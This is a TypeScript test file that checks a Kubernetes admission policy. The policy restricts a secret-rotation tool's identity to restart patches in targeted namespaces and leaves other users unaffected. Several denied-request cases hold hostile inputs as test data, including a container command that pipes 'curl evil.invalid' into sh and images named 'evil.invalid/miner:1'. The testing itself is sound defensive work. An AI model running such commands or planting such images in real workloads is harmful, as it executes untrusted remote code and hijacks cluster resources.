/**
 * The admission policy, generated from this file's routing table (as `vault-rollout admission-policy --routes` does)
 * and applied to the real test clusters: the vault-rollout identity is denied every change a restart does not make,
 * even where RBAC would allow it, and every restart in a namespace no route targets; it is allowed every restart the
 * product's own executor makes; everybody else is unaffected; doctor sees it. Afterwards the clusters get their own
 * policy back (test/clusters/admission-policy.yaml: every namespace, for the other tests).
 */
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { admissionPolicy, admissionPolicyYaml } from '../../lib/deploy/admission-policy.ts';
import { executeRollouts, type RolloutResult } from '../../lib/pipeline/kube-executor.ts';
import { runDoctor } from '../../lib/deploy/doctor.ts';
import { planRollouts } from '../../lib/plan/planner.ts';
import type { RoutingTable } from '../../lib/routing/routing-table.ts';
import { parseInput } from '../../lib/sources/parse.ts';
import { client, clusterClient, waitFor, type KubeClient } from '../clusters/kube-http.ts';
import {
  admin,
  cluster,
  createNamespace,
  createWorkload,
  deleteNamespace,
  fileAccess,
  getWorkload,
  KINDS,
  repoRootDir,
  routingTable,
  uniqueName,
  type TestKind,
} from './support.ts';

const NS = uniqueName('vr-admission');
/** A namespace no route of the table targets: the RBAC (a ClusterRole) lets the identity patch there, the policy does not. */
const UNTARGETED = uniqueName('vr-untargeted');
const C = 'alpha';
const kubectl = join(repoRootDir, '.local', 'bin', 'kubectl');
const identity = (): KubeClient => clusterClient(cluster(C), 'vault-rollout');
// As many attempts as the product's default: with kwok nodes a fresh DaemonSet's status moves while it is patched,
// and a conflict costs a re-read and another attempt.
const fast = { retry: { maxAttempts: 5, baseDelayMs: 50, maxDelayMs: 200, maxRetryAfterMs: 1000 } };

const HARBOR_CRD = {
  apiVersion: 'apiextensions.k8s.io/v1',
  kind: 'CustomResourceDefinition',
  metadata: { name: 'harbors.example.com' },
  spec: {
    group: 'example.com',
    names: { kind: 'Harbor', plural: 'harbors', singular: 'harbor', listKind: 'HarborList' },
    scope: 'Namespaced',
    versions: [
      {
        name: 'v1',
        served: true,
        storage: true,
        schema: {
          openAPIV3Schema: {
            type: 'object',
            properties: { spec: { type: 'object', 'x-kubernetes-preserve-unknown-fields': true } },
          },
        },
      },
    ],
  },
};
const harbors = `/apis/example.com/v1/namespaces/${NS}/harbors`;

const SMP = 'application/strategic-merge-patch+json';
const MERGE = 'application/merge-patch+json';
const path = (kind: TestKind, name: string, ns = NS) => `${KINDS[kind].path(ns)}/${name}`;

async function must(
  kube: KubeClient,
  method: string,
  url: string,
  body?: unknown,
  contentType?: string,
): Promise<unknown> {
  const res = await kube.request(method, url, { body, ...(contentType ? { contentType } : {}) });
  if (res.status >= 300) throw new Error(`${method} ${url}: HTTP ${res.status} ${res.text.slice(0, 300)}`);
  return res.body;
}

/** The request as the identity: the status and the API server's message. */
async function attempt(
  kube: KubeClient,
  method: string,
  url: string,
  body?: unknown,
  contentType = MERGE,
): Promise<{ status: number; message: string }> {
  const res = await kube.request<{ message?: string }>(method, url, { body, contentType });
  return { status: res.status, message: res.body?.message ?? '' };
}

const DENIED_BY_POLICY = "ValidatingAdmissionPolicy 'vault-rollout' with binding 'vault-rollout' denied request";

function applyManifest(file: string, context = C, input?: string): void {
  execFileSync(
    kubectl,
    [
      `--kubeconfig=${cluster(context).adminKubeconfig}`,
      'apply',
      '--server-side',
      '--force-conflicts',
      '--field-manager=vault-rollout-clusters',
      `--filename=${input === undefined ? join(repoRootDir, file) : '-'}`,
    ],
    { stdio: 'pipe', ...(input === undefined ? {} : { input }) },
  );
}

/** The policy for this file's table (bounded to NS), as `vault-rollout admission-policy --routes` prints it. */
const applyTablePolicy = (context = C): void =>
  applyManifest('-', context, admissionPolicyYaml(admissionPolicy(table()), 'admission-policy.test.ts'));
/** What the test clusters run with (test/clusters/clusters.ts): every kind, every namespace. */
const CLUSTERS_POLICY = 'test/clusters/admission-policy.yaml';

let seq = 0;
const write = (key: string, version: number, time = '2026-11-20T10:00:00Z') =>
  JSON.stringify({
    time,
    type: 'response',
    request: {
      id: `adm-${++seq}`,
      operation: 'update',
      mount_type: 'kv',
      mount_point: 'secret/',
      path: `secret/data/${key}`,
    },
    response: { data: { version } },
  });

async function restart(table: RoutingTable, lines: string[], dryRun = false): Promise<string[]> {
  const parsed = parseInput(lines.join('\n'), { mounts: table.mounts });
  const plan = planRollouts(table, parsed.changes);
  const results = await executeRollouts(table, plan.targets, { access: fileAccess, dryRun, ...fast });
  const brief = (r: RolloutResult) =>
    `${r.kind}/${r.name}: ${r.outcome}${r.reason ? ` (${r.reason}${r.detail ? `: ${r.detail.slice(0, 200)}` : ''})` : ''}`;
  return results.map(brief).sort();
}

const WORKLOADS = ['Deployment', 'StatefulSet', 'DaemonSet', 'CronJob', 'Rollout'] as const;

// Every restart the product makes, through its own planner and executor, as the vault-rollout identity; the Harbor
// route is the one of infra/routes/example.yaml, which the policy was generated from.
const table = () =>
  routingTable(
    [
      ...WORKLOADS.map(
        (kind) => `  - name: ${kind.toLowerCase()}
    match: { path: "secret/adm/${kind.toLowerCase()}" }
    targets: [{ clusters: [${C}], namespace: ${NS}, kind: ${kind}, name: ${kind.toLowerCase()}-app }]`,
      ),
      `  - name: registry-credentials
    match: { path: "secret/registry/{registry}" }
    targets:
      - clusters: [${C}]
        resource: { apiVersion: example.com/v1, kind: Harbor, namespace: ${NS}, name: "{registry}" }
        names: [main]
        patch: { spec: { secretVersion: "{version}" } }`,
    ].join('\n'),
  );
const allChanges = (version: number, time: string) => [
  ...WORKLOADS.map((k) => write(`adm/${k.toLowerCase()}`, version, time)),
  write('registry/main', version, time),
];

beforeAll(async () => {
  // What `npm run clusters:up` applies, applied again: clusters started before the policy existed get it too.
  applyManifest('infra/rbac/clusterrole.yaml');
  applyTablePolicy();
  await createNamespace(C, NS);
  await createNamespace(C, UNTARGETED);
  await createWorkload(C, UNTARGETED, 'Deployment', 'deployment-app');
  const a = admin(C);
  const crd = await a.request('POST', '/apis/apiextensions.k8s.io/v1/customresourcedefinitions', { body: HARBOR_CRD });
  if (crd.status !== 201 && crd.status !== 409)
    throw new Error(`Harbor CRD: HTTP ${crd.status} ${crd.text.slice(0, 200)}`);
  await waitFor(async () => (await a.request('GET', `/apis/example.com/v1/namespaces/${NS}/harbors`)).status === 200, {
    timeoutMs: 60_000,
    what: 'the Harbor CRD served',
  });
  // An operator's custom resource needs its own grant (the shipped ClusterRole names only the built-in kinds).
  await must(a, 'POST', `/apis/rbac.authorization.k8s.io/v1/namespaces/${NS}/roles`, {
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'Role',
    metadata: { name: 'harbors' },
    rules: [{ apiGroups: ['example.com'], resources: ['harbors'], verbs: ['get', 'list', 'patch'] }],
  });
  await must(a, 'POST', `/apis/rbac.authorization.k8s.io/v1/namespaces/${NS}/rolebindings`, {
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'RoleBinding',
    metadata: { name: 'harbors' },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'harbors' },
    subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'vault-rollout' }],
  });
  for (const kind of WORKLOADS) await createWorkload(C, NS, kind, `${kind.toLowerCase()}-app`);
  await must(a, 'POST', harbors, {
    apiVersion: 'example.com/v1',
    kind: 'Harbor',
    metadata: { name: 'main' },
    spec: { secretVersion: '0', replicas: 1, image: 'goharbor/harbor-core:v2' },
  });
  // The policy as applied is in force once the API server denies what it must and allows a (dry-run) restart of
  // every kind: it loads a changed policy asynchronously.
  const dryRestart = (kind: TestKind) => {
    const annotations = { 'kubectl.kubernetes.io/restartedAt': '2026-01-01T00:00:00Z' };
    const body =
      kind === 'Rollout'
        ? { spec: { restartAt: '2026-01-01T00:00:00Z' } }
        : kind === 'CronJob'
          ? { spec: { jobTemplate: { spec: { template: { metadata: { annotations } } } } } }
          : { spec: { template: { metadata: { annotations } } } };
    return attempt(
      identity(),
      'PATCH',
      `${path(kind, `${kind.toLowerCase()}-app`)}?dryRun=All`,
      body,
      kind === 'Rollout' ? MERGE : SMP,
    );
  };
  const dryRestartUntargeted = () =>
    attempt(
      identity(),
      'PATCH',
      `${path('Deployment', 'deployment-app', UNTARGETED)}?dryRun=All`,
      {
        spec: {
          template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2026-01-01T00:00:00Z' } } },
        },
      },
      SMP,
    );
  await waitFor(
    async () =>
      (await attempt(identity(), 'PATCH', path('Deployment', 'deployment-app'), { spec: { replicas: 5 } }, SMP))
        .status === 403 &&
      (await dryRestartUntargeted()).status === 403 &&
      (await Promise.all(WORKLOADS.map(dryRestart))).every((r) => r.status === 200),
    { timeoutMs: 30_000, what: 'the admission policy in force' },
  );
}, 180_000);

afterAll(async () => {
  // The other test files restart in namespaces of their own: give the clusters their every-namespace policy back.
  applyManifest(CLUSTERS_POLICY);
  applyManifest(CLUSTERS_POLICY, 'gamma');
  await deleteNamespace(C, NS);
  await deleteNamespace(C, UNTARGETED);
});

describe('the vault-rollout identity is allowed every restart the product makes', () => {
  it('restarts every kind and the custom resource with its declared patch, then dry-runs and replays', async () => {
    expect(await restart(table(), allChanges(3, '2026-11-20T10:00:00Z'))).toEqual([
      'CronJob/cronjob-app: restarted',
      'DaemonSet/daemonset-app: restarted',
      'Deployment/deployment-app: restarted',
      'Harbor/main: restarted',
      'Rollout/rollout-app: restarted',
      'StatefulSet/statefulset-app: restarted',
    ]);
    const harbor = (await must(admin(C), 'GET', `${harbors}/main`)) as {
      spec: Record<string, unknown>;
      metadata: { annotations?: Record<string, string> };
    };
    expect(harbor.spec).toEqual({ secretVersion: '3', replicas: 1, image: 'goharbor/harbor-core:v2' });
    expect(harbor.metadata.annotations?.['vault-rollout.io/versions']).toBe('{"secret/registry/main":3}');
    expect((await getWorkload(C, NS, 'Rollout', 'rollout-app')).spec.restartAt).toBe('2026-11-20T10:00:00Z');

    // The executor's server-side dry-run goes through admission too.
    expect(await restart(table(), allChanges(4, '2026-11-20T11:00:00Z'), true)).toEqual(
      WORKLOADS.map((k) => `${k}/${k.toLowerCase()}-app: dry-run`)
        .concat('Harbor/main: dry-run')
        .sort(),
    );
    // A replay sends the identical patch: allowed, and nothing changes.
    expect(await restart(table(), allChanges(3, '2026-11-20T10:00:00Z'))).toEqual(
      WORKLOADS.map((k) => `${k}/${k.toLowerCase()}-app: unchanged (already restarted for this version)`)
        .concat('Harbor/main: unchanged (already restarted for this version)')
        .sort(),
    );
    // And a newer version restarts again (the previous record annotations are replaced).
    expect(await restart(table(), allChanges(5, '2026-11-20T12:00:00Z'))).toEqual(
      WORKLOADS.map((k) => `${k}/${k.toLowerCase()}-app: restarted`)
        .concat('Harbor/main: restarted')
        .sort(),
    );
  });

  it('records the SecretRotated Event (the one kind it creates)', async () => {
    const events = await waitFor(
      async () => {
        const list = (await must(
          admin(C),
          'GET',
          `/api/v1/namespaces/${NS}/events?fieldSelector=reason%3DSecretRotated`,
        )) as { items: unknown[] };
        return list.items.length > 0 ? list.items : undefined;
      },
      { timeoutMs: 15_000, what: 'SecretRotated events' },
    );
    expect(events.length).toBeGreaterThan(0);
  });

  it('server-side apply of a restart annotation works, with --dry-run=server and for real', async () => {
    const manifest = (annotations: Record<string, string>, image?: string) =>
      JSON.stringify({
        apiVersion: 'apps/v1',
        kind: 'Deployment',
        metadata: { name: 'deployment-app', namespace: NS },
        spec: {
          template: { metadata: { annotations }, ...(image ? { spec: { containers: [{ name: 'app', image }] } } : {}) },
        },
      });
    const apply = (input: string, dryRun: boolean) =>
      execFileSync(
        kubectl,
        [
          `--kubeconfig=${cluster(C).vaultRolloutKubeconfig}`,
          'apply',
          '--server-side',
          '--field-manager=vault-rollout-ssa',
          '--force-conflicts',
          ...(dryRun ? ['--dry-run=server'] : []),
          '--filename=-',
        ],
        { input, stdio: 'pipe' },
      ).toString();
    expect(apply(manifest({ 'kubectl.kubernetes.io/restartedAt': '2026-11-21T00:00:00Z' }), true)).toContain(
      'serverside-applied (server dry run)',
    );
    expect(apply(manifest({ 'kubectl.kubernetes.io/restartedAt': '2026-11-21T00:00:00Z' }), false)).toContain(
      'serverside-applied',
    );
    expect(() =>
      apply(manifest({ 'kubectl.kubernetes.io/restartedAt': '2026-11-21T00:00:00Z' }, 'evil.invalid/miner:1'), true),
    ).toThrow(/denied request: vault-rollout may change only/);
  });
});

describe('the vault-rollout identity restarts only in the namespaces the routes target', () => {
  const restartPatch = {
    spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2026-11-23T00:00:00Z' } } } },
  };

  it('refuses a restart patch in a namespace no route targets, where RBAC allows it; allows the same patch in a targeted one', async () => {
    const before = await getWorkload(C, UNTARGETED, 'Deployment', 'deployment-app');
    for (const dryRun of ['?dryRun=All', '']) {
      const refused = await attempt(
        identity(),
        'PATCH',
        `${path('Deployment', 'deployment-app', UNTARGETED)}${dryRun}`,
        restartPatch,
        SMP,
      );
      expect(refused).toEqual({ status: 403, message: expect.stringContaining(DENIED_BY_POLICY) });
      expect(refused.message).toContain(
        `vault-rollout may not patch a apps/Deployment in namespace ${UNTARGETED}: its routes target it only in ${NS}`,
      );
      // The record-only patch reconcile writes is a write too, and refused there as well.
      const record = await attempt(
        identity(),
        'PATCH',
        `${path('Deployment', 'deployment-app', UNTARGETED)}${dryRun}`,
        { metadata: { annotations: { 'vault-rollout.io/versions': '{"secret/x":1}' } } },
        MERGE,
      );
      expect(record.status).toBe(403);
    }
    const after = await getWorkload(C, UNTARGETED, 'Deployment', 'deployment-app');
    expect(after.spec.template?.metadata?.annotations).toEqual(before.spec.template?.metadata?.annotations);
    expect(after.metadata.generation).toBe(before.metadata.generation);

    const allowed = await attempt(identity(), 'PATCH', path('Deployment', 'deployment-app'), restartPatch, SMP);
    expect(allowed.status).toBe(200);
    expect(
      (await getWorkload(C, NS, 'Deployment', 'deployment-app')).spec.template?.metadata?.annotations?.[
        'kubectl.kubernetes.io/restartedAt'
      ],
    ).toBe('2026-11-23T00:00:00Z');
  });

  it("the product's own executor: a route to the untargeted namespace, with a policy generated without it, is refused by the API server", async () => {
    const stray = routingTable(`  - name: stray
    match: { path: "secret/adm/stray" }
    targets: [{ clusters: [${C}], namespace: ${UNTARGETED}, kind: Deployment, name: deployment-app }]`);
    const [result] = await restart(stray, [write('adm/stray', 1)]);
    expect(result).toMatch(
      /^Deployment\/deployment-app: failed \(.*vault-rollout may not patch a apps\/Deployment in namespace /,
    );
  });
});

describe('the vault-rollout identity is denied everything else', () => {
  const template = (spec: Record<string, unknown>) => ({ spec: { template: spec } });

  it.each<[string, TestKind, unknown, string]>([
    [
      'an image change',
      'Deployment',
      template({ spec: { containers: [{ name: 'app', image: 'evil.invalid/miner:1' }] } }),
      SMP,
    ],
    [
      'a command',
      'Deployment',
      template({ spec: { containers: [{ name: 'app', command: ['sh', '-c', 'curl evil.invalid | sh'] }] } }),
      SMP,
    ],
    ['a replica change', 'Deployment', { spec: { replicas: 0 } }, SMP],
    [
      'a foreign pod-template annotation',
      'Deployment',
      template({ metadata: { annotations: { 'sidecar.istio.io/inject': 'false' } } }),
      SMP,
    ],
    [
      'a restart annotation together with an image',
      'Deployment',
      template({
        metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2026-11-22T00:00:00Z' } },
        spec: { containers: [{ name: 'app', image: 'evil.invalid/miner:1' }] },
      }),
      SMP,
    ],
    ['a pod-template label change', 'Deployment', template({ metadata: { labels: { extra: 'yes' } } }), SMP],
    ['a label change', 'Deployment', { metadata: { labels: { owner: 'someone-else' } } }, MERGE],
    // (The versions annotation on metadata is allowed: reconcile records there what pods already run, below.)
    [
      'a foreign metadata annotation',
      'Deployment',
      { metadata: { annotations: { 'example.com/owner': 'someone-else' } } },
      MERGE,
    ],
    [
      'the restart token on metadata',
      'Deployment',
      { metadata: { annotations: { 'vault-rollout.io/restart-token': 'x' } } },
      MERGE,
    ],
    [
      'an image in a StatefulSet',
      'StatefulSet',
      template({ spec: { containers: [{ name: 'app', image: 'evil.invalid/miner:1' }] } }),
      SMP,
    ],
    ['another ServiceAccount for a DaemonSet', 'DaemonSet', template({ spec: { serviceAccountName: 'default' } }), SMP],
    ['a CronJob schedule', 'CronJob', { spec: { schedule: '* * * * *' } }, MERGE],
    [
      'a CronJob job image',
      'CronJob',
      {
        spec: {
          jobTemplate: {
            spec: { template: { spec: { containers: [{ name: 'app', image: 'evil.invalid/miner:1' }] } } },
          },
        },
      },
      SMP,
    ],
    ['a paused Rollout', 'Rollout', { spec: { paused: true } }, MERGE],
    [
      'a Rollout template annotation',
      'Rollout',
      {
        spec: {
          template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2026-11-22T00:00:00Z' } } },
        },
      },
      MERGE,
    ],
  ])('%s', async (_what, kind, body, contentType) => {
    const before = await getWorkload(C, NS, kind, `${kind.toLowerCase()}-app`);
    const res = await attempt(identity(), 'PATCH', path(kind, `${kind.toLowerCase()}-app`), body, contentType);
    expect(res).toEqual({ status: 403, message: expect.stringContaining(DENIED_BY_POLICY) });
    expect(res.message).toContain(`vault-rollout may change only`);
    // Nothing was written (controllers may still update status, so compare what the identity tried to change).
    const after = await getWorkload(C, NS, kind, `${kind.toLowerCase()}-app`);
    const desired = (o: typeof before) => ({
      generation: o.metadata.generation,
      annotations: o.metadata.annotations,
      labels: (o.metadata as { labels?: unknown }).labels,
      spec: o.spec,
    });
    expect(desired(after)).toEqual(desired(before));
  });

  it("allows reconcile's record without a restart: the versions annotation on a Deployment's own metadata, nothing else", async () => {
    const res = await attempt(
      identity(),
      'PATCH',
      path('Deployment', 'deployment-app'),
      { metadata: { annotations: { 'vault-rollout.io/versions': '{"secret/x":1}' } } },
      MERGE,
    );
    expect(res.status).toBe(200);
    const after = await getWorkload(C, NS, 'Deployment', 'deployment-app');
    expect(after.metadata.annotations?.['vault-rollout.io/versions']).toBe('{"secret/x":1}');
  });

  it('denies a custom resource any field its route does not declare', async () => {
    for (const body of [
      { spec: { image: 'evil.invalid/miner:1' } },
      { spec: { secretVersion: '9', replicas: 0 } },
      { metadata: { labels: { a: 'b' } } },
    ]) {
      const res = await attempt(identity(), 'PATCH', `${harbors}/main`, body);
      expect(res.status, JSON.stringify(body)).toBe(403);
      expect(res.message).toContain(
        'vault-rollout may change only metadata.annotations["vault-rollout.io/restart-token"], metadata.annotations["vault-rollout.io/versions"], spec.secretVersion of a example.com/Harbor',
      );
    }
  });

  it("denies a patch of a kube-system Deployment's container", async () => {
    const a = admin(C);
    const name = uniqueName('coredns');
    await must(a, 'POST', KINDS.Deployment.path('kube-system'), {
      ...KINDS.Deployment.body(name),
      metadata: { name, namespace: 'kube-system' },
    });
    try {
      const res = await attempt(
        identity(),
        'PATCH',
        path('Deployment', name, 'kube-system'),
        template({ spec: { containers: [{ name: 'app', image: 'evil.invalid/coredns:1', command: ['/bin/sh'] }] } }),
        SMP,
      );
      expect(res).toEqual({ status: 403, message: expect.stringContaining(DENIED_BY_POLICY) });
    } finally {
      await a.request('DELETE', path('Deployment', name, 'kube-system'));
    }
  });

  it('denies the ServiceAccount identity of infra/rbac an image change too', async () => {
    const token = (await must(
      admin(C),
      'POST',
      '/api/v1/namespaces/vault-rollout/serviceaccounts/vault-rollout/token',
      { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: { expirationSeconds: 600 } },
    )) as { status: { token: string } };
    const sa = client(cluster(C).server, {
      ca: (await import('node:fs')).readFileSync(cluster(C).caFile),
      token: token.status.token,
    });
    const res = await attempt(
      sa,
      'PATCH',
      path('Deployment', 'deployment-app'),
      template({ spec: { containers: [{ name: 'app', image: 'evil.invalid/miner:1' }] } }),
      SMP,
    );
    expect(res).toEqual({ status: 403, message: expect.stringContaining(DENIED_BY_POLICY) });
    const restartOk = await attempt(
      sa,
      'PATCH',
      path('Deployment', 'deployment-app'),
      template({ metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2026-11-22T00:00:00Z' } } }),
      SMP,
    );
    expect(restartOk.status).toBe(200);
  });

  it('denies other kinds of write even where RBAC would allow them (a too-broad Role bound here)', async () => {
    const a = admin(C);
    const rules = [
      { apiGroups: ['apps'], resources: ['deployments'], verbs: ['create', 'delete', 'update'] },
      { apiGroups: ['apps'], resources: ['deployments/scale'], verbs: ['patch'] },
      { apiGroups: [''], resources: ['configmaps', 'pods'], verbs: ['create'] },
    ];
    await must(a, 'POST', `/apis/rbac.authorization.k8s.io/v1/namespaces/${NS}/roles`, {
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'Role',
      metadata: { name: 'too-broad' },
      rules,
    });
    await must(a, 'POST', `/apis/rbac.authorization.k8s.io/v1/namespaces/${NS}/rolebindings`, {
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'RoleBinding',
      metadata: { name: 'too-broad' },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'too-broad' },
      subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'vault-rollout' }],
    });
    try {
      const vr = identity();
      const cases: Array<[string, string, unknown, string]> = [
        [
          'POST',
          KINDS.Deployment.path(NS),
          { ...KINDS.Deployment.body('created'), metadata: { name: 'created' } },
          'vault-rollout may not CREATE deployments',
        ],
        ['DELETE', path('Deployment', 'deployment-app'), undefined, 'vault-rollout may not DELETE deployments'],
        [
          'PATCH',
          `${path('Deployment', 'deployment-app')}/scale`,
          { spec: { replicas: 9 } },
          'vault-rollout may not UPDATE deployments/scale',
        ],
        [
          'POST',
          `/api/v1/namespaces/${NS}/configmaps`,
          { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'x' } },
          'vault-rollout may not CREATE configmaps',
        ],
        [
          'POST',
          `/api/v1/namespaces/${NS}/pods`,
          {
            apiVersion: 'v1',
            kind: 'Pod',
            metadata: { name: 'x' },
            spec: { containers: [{ name: 'x', image: 'evil.invalid/x' }] },
          },
          'vault-rollout may not CREATE pods',
        ],
      ];
      // RBAC changes reach the authorizer's cache asynchronously: wait until the first write gets past RBAC.
      await waitFor(
        async () =>
          (
            await attempt(vr, 'POST', `/api/v1/namespaces/${NS}/configmaps`, cases[3]?.[2], 'application/json')
          ).message.includes(DENIED_BY_POLICY),
        { timeoutMs: 15_000, what: 'the edit binding in effect' },
      );
      for (const [method, url, body, message] of cases) {
        const res = await attempt(vr, method, url, body, method === 'PATCH' ? MERGE : 'application/json');
        expect(res, `${method} ${url}`).toEqual({ status: 403, message: expect.stringContaining(DENIED_BY_POLICY) });
        expect(res.message).toContain(message);
      }
    } finally {
      await a.request('DELETE', `/apis/rbac.authorization.k8s.io/v1/namespaces/${NS}/rolebindings/too-broad`);
    }
  });
});

describe('everybody else is unaffected', () => {
  it('the admin changes images, replicas and labels as before', async () => {
    const a = admin(C);
    for (const [body, type] of [
      [{ spec: { replicas: 2 } }, SMP],
      [{ metadata: { labels: { owner: 'admin' } } }, MERGE],
      [{ spec: { template: { spec: { containers: [{ name: 'app', image: 'registry.invalid/app:2' }] } } } }, SMP],
    ] as const) {
      expect((await a.request('PATCH', path('Deployment', 'deployment-app'), { body, contentType: type })).status).toBe(
        200,
      );
    }
    expect(
      (
        await a.request('PATCH', `${harbors}/main`, {
          body: { spec: { image: 'goharbor/harbor-core:v3' } },
          contentType: MERGE,
        })
      ).status,
    ).toBe(200);
  });
});

describe('doctor', () => {
  const doctorTable = () =>
    routingTable(`  - name: registry
    match: { path: "secret/registry/{registry}" }
    targets:
      - clusters: [${C}, gamma]
        resource: { apiVersion: example.com/v1, kind: Harbor, namespace: ${NS}, name: "{registry}" }
        names: [main]
        patch: { spec: { secretVersion: "{version}" } }`);
  const policyCheck = async () =>
    (await runDoctor(doctorTable(), { access: fileAccess }))
      .filter((c) => c.check === 'admission policy' && c.cluster !== 'beta')
      .map((c) => `${c.cluster}: ${c.ok ? 'ok' : 'PROBLEM'}: ${c.detail}${c.fix ? ` (fix: ${c.fix})` : ''}`);

  it('reports the policy installed and enforced, and names the fix when its binding is gone', async () => {
    applyManifest('infra/rbac/clusterrole.yaml', 'gamma');
    applyTablePolicy('gamma');
    // The five workload kinds and Harbor: the kinds this file's table targets.
    expect(await policyCheck()).toEqual([
      `${C}: ok: installed and enforced: this identity may change only what a restart writes (6 kinds)`,
      'gamma: ok: installed and enforced: this identity may change only what a restart writes (6 kinds)',
    ]);
    const gamma = admin('gamma');
    await must(
      gamma,
      'DELETE',
      '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings/vault-rollout',
    );
    try {
      expect((await policyCheck())[1]).toBe(
        'gamma: PROBLEM: the policy is installed but not enforced: no ValidatingAdmissionPolicyBinding vault-rollout with validationActions [Deny] (fix: vault-rollout admission-policy --routes FILE | kubectl apply --server-side -f -   (Kubernetes >= 1.30))',
      );
    } finally {
      applyManifest(CLUSTERS_POLICY, 'gamma');
    }
  });
});
